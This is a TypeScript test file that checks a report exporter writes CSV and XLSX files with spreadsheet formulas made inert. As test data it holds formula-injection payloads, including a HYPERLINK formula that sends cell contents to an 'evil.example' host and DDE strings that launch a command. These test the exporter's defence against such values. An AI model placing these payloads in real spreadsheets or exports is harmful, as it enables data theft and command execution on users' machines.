import ExcelJS from 'exceljs'
import { parse } from 'csv-parse/sync'
import { describe, expect, it } from 'vitest'
import { exportTable, type ExportableResult } from './export-table.ts'
import { writeExport } from './formats.ts'

/** Text that a spreadsheet would run as a formula if written as it stands. */
const formulas = [
  '=HYPERLINK("https://evil.example/steal?d="&A1,"Click for refund")',
  '+cmd|\' /C calc\'!A0',
  '-2+3',
  '@SUM(1+1)*cmd|\' /C calc\'!A0',
  '\t=1+1',
  '\r=1+1',
]

function result(rows: Array<Record<string, unknown>>, overrides: Partial<ExportableResult> = {}): ExportableResult {
  return {
    tool: 'top_customers',
    title: 'Top customers',
    parameters: { period: 'all_time', limit: 10 },
    window: { from: '2024-11-01', to: '2026-10-31', label: 'all time', asOf: '2026-10-31' },
    rows,
    rowCount: rows.length,
    totalRows: rows.length,
    truncated: false,
    narration: 'A summary.',
    assumptions: ['Window: all time.'],
    ...overrides,
  }
}

const columns = ['customer_name', 'revenue', 'margin_percent', 'share_of_revenue_percent', 'customer_id', 'last_purchase_date', 'is_other']
const rows = [
  ...formulas.map((name, index) => ({ customer_name: name, revenue: 100 + index, margin_percent: -2.5, share_of_revenue_percent: 0.5, customer_id: `c${index}`, last_purchase_date: '2026-10-01', is_other: false })),
  { customer_name: 'Hermès, "Paris"\nAtelier', revenue: 1234.5, margin_percent: null, share_of_revenue_percent: 12, customer_id: 'c9', last_purchase_date: '2026-09-30', is_other: true },
]
const table = exportTable(result(rows), columns, 'admin')

/** The About sheet as [label, value] pairs. */
const aboutLines = (workbook: ExcelJS.Workbook) =>
  workbook.getWorksheet('About')!.getSheetValues().flatMap((row) => (Array.isArray(row) ? [[row[1], row[2]]] : []))

const readCsv = (body: Buffer) => parse(body.toString('utf8'), { bom: true }) as string[][]

describe('the export of a table', () => {
  it('heads the columns with the semantic layer\'s labels, or the column name in words', () => {
    expect(table.columns.map((column) => column.label)).toEqual(['Customer name', 'Revenue', 'Gross margin %', 'Share of revenue %', 'Customer ID', 'Last purchase date', 'Is other'])
    expect(table.name).toBe('top_customers-2026-10-31')
  })

  it('writes CSV by RFC 4180 with a byte-order mark, formulas made inert and numbers as written by the data', async () => {
    const file = await writeExport(table, 'csv')
    expect(file.fileName).toBe('top_customers-2026-10-31.csv')
    expect([...file.body.subarray(0, 3)]).toEqual([0xef, 0xbb, 0xbf])
    expect(file.body.toString('utf8')).toContain('\r\n')
    const [heading, ...records] = readCsv(file.body)
    expect(heading).toEqual(table.columns.map((column) => column.label))
    expect(records.map((record) => record[0])).toEqual([...formulas.map((text) => `'${text}`), 'Hermès, "Paris"\nAtelier'])
    // Raw values: no currency signs, separators or rounding; a negative number is a number, not escaped text.
    expect(records.map((record) => record[1])).toEqual(['100', '101', '102', '103', '104', '105', '1234.5'])
    expect(records[0]!.slice(2)).toEqual(['-2.5', '0.5', 'c0', '2026-10-01', 'false'])
    expect(records[6]!.slice(2)).toEqual(['', '12', 'c9', '2026-09-30', 'true'])
  })

  it('writes an XLSX workbook whose cells read back as numbers and inert text, with an About sheet', async () => {
    const file = await writeExport(table, 'xlsx')
    expect(file.fileName).toBe('top_customers-2026-10-31.xlsx')
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load(file.body as unknown as ArrayBuffer)
    const data = workbook.getWorksheet('Data')!
    expect(data.getRow(1).values).toEqual([undefined, ...table.columns.map((column) => column.label)])
    const names = rows.map((_row, index) => data.getCell(index + 2, 1).value)
    // XML reads a carriage return in text back as a line feed; the quote still leads.
    expect(names).toEqual([...formulas.map((text) => `'${text.replace('\r', '\n')}`), 'Hermès, "Paris"\nAtelier'])
    for (let index = 0; index < rows.length; index++) {
      expect(data.getCell(index + 2, 1).formula, `row ${index + 2}`).toBeUndefined()
      expect(data.getCell(index + 2, 2).value).toBe(rows[index]!.revenue)
    }
    expect(data.getCell(2, 3).value).toBe(-2.5)
    expect(data.getCell(8, 3).value).toBeNull()
    expect(data.getCell(8, 7).value).toBe(true)
    const lines = aboutLines(workbook)
    expect(lines).toContainEqual(['Window', '2024-11-01 to 2026-10-31 (all time)'])
    expect(lines).toContainEqual(['Arguments', '{"period":"all_time","limit":10}'])
    expect(lines).toContainEqual(['Personal data', 'As the admin role may see it'])
  })

  it('keeps the headings of an empty result, says when rows were cut, and escapes formulas in headings and notes', async () => {
    const empty = exportTable(result([]), ['brand', 'revenue'], 'viewer')
    expect(readCsv((await writeExport(empty, 'csv')).body)).toEqual([['Brand', 'Revenue']])
    // A free-form query has no declared columns: its first row names them, as it wrote them.
    const freeForm = exportTable(result([{ '=cmd': 1 }], { rowCount: 1, totalRows: 1200, truncated: true, narration: '-1 row' }), [], 'analyst')
    expect(readCsv((await writeExport(freeForm, 'csv')).body)).toEqual([["'=cmd"], ['1']])
    expect(freeForm.about).toContainEqual(['Rows', '1 of 1,200 (cut at the row limit)'])
    const workbook = new ExcelJS.Workbook()
    await workbook.xlsx.load((await writeExport(freeForm, 'xlsx')).body as unknown as ArrayBuffer)
    expect(aboutLines(workbook)).toContainEqual(['Summary', "'-1 row"])
  })
})
